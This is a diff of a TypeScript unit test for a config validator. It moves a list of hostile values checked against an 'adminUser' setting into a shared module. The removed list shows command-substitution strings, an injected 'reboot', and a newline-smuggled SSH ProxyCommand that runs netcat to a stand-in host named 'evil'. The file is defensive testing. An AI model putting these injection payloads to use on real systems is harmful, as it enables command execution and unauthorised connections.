@@ -4,6 +4,7 @@
 // what the sinks do with a value that got past it: tests/unit/escape.test.ts does.
 import * as path from "path";
 import { Registration, runProgram } from "../harness";
+import { HOSTILE } from "../hostile";
 import {
     ConfigError,
     RawConfig,
@@ -31,19 +32,6 @@ function problemsOf(raw: RawConfig): string[] {
         throw e;
     }
 }
-
-const HOSTILE = [
-    "$(touch /tmp/pwned)",
-    "`id`",
-    'a"; reboot; "',
-    "a'b",
-    "line\nProxyCommand nc evil 22",
-    "a;b",
-    "a}b",
-    "a b",
-    "a\\b",
-    "${HOME}",
-];
 
 describe("hostile values are refused, naming the key", () => {
     it.each(HOSTILE)("ouvroir:adminUser = %j", (bad) => {
